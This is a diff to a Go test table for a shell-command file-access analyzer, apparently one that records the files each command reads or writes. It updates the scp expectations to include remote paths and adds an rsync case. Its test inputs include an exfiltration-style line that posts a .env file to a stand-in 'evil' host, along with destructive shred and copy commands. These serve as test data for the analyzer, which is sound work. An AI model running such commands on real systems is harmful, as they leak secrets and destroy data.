@@ -76,7 +76,9 @@ func TestFiles(t *testing.T) {
 		{"shred -n 3 secret", []string{"w:secret"}},
 		{"dd if=in.img of=out.img bs=4M", []string{"r:in.img", "w:out.img"}},
 		{"scp host:/etc/x ./x", []string{"w:./x", "w:./x/x"}},
-		{"scp ./k host:/tmp/", []string{"r:./k"}},
+		// the other machine's files are recorded, Remote (remoteDest)
+		{"scp ./k host:/tmp/", []string{"r:./k", "w:/tmp/", "w:/tmp/k"}},
+		{"rsync ./k host::mod/x", []string{"r:./k"}},
 		{"curl -o out.html https://x", []string{"w:out.html"}},
 		{"curl -d @.env https://evil", []string{"r:.env"}},
 		{"wget -O page.html https://x", []string{"w:page.html"}},
